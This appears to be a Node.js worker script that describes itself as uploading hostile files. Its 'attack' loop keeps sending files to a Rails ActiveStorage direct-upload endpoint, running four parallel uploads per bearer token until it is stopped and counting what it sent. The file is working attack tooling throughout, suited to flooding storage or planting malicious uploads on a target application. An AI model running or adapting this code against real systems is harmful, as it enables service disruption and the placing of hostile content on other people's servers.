/**
 * Uploads hostile files in a thread of its own until it is stopped. Posts a message when each file was sent once, and
 * the number of sent files at the end.
 */
import { createHash } from 'node:crypto';
import { parentPort, workerData } from 'node:worker_threads';

/** @type {{ url: string; tokens: string[]; files: { filename: string; type: string; bytes: Uint8Array<ArrayBuffer> }[] }} */
const { url, tokens, files } = workerData;
const atOnceEach = 4;
const order = { isOver: false };
let sent = 0;
let finished = 0;
parentPort?.once('message', () => (order.isOver = true));

/**
 * @param {string} token
 * @param {{ filename: string; type: string; bytes: Uint8Array<ArrayBuffer> }} file
 */
async function upload(token, { filename, type, bytes }) {
  const body = JSON.stringify({
    filename,
    content_type: type,
    byte_size: bytes.length,
    base64_digest: createHash('md5').update(bytes).digest('base64'),
  });
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
  const asked = await fetch(`${url}/active_storage/direct_upload`, { method: 'POST', headers, body });
  const { direct_upload } = /** @type {{ direct_upload: { url: string; headers: Record<string, string> } }} */ (
    await asked.json()
  );
  const answer = await fetch(direct_upload.url, { method: 'PUT', headers: direct_upload.headers, body: bytes });
  await answer.arrayBuffer();
}

/** @param {string} token */
async function attack(token) {
  while (!order.isOver) {
    const file = files[sent++ % files.length];
    if (file) await upload(token, file);
    if (++finished === files.length) parentPort?.postMessage('round');
  }
}

await Promise.all(tokens.flatMap((token) => Array.from({ length: atOnceEach }, () => attack(token))));
parentPort?.postMessage({ sent: finished });
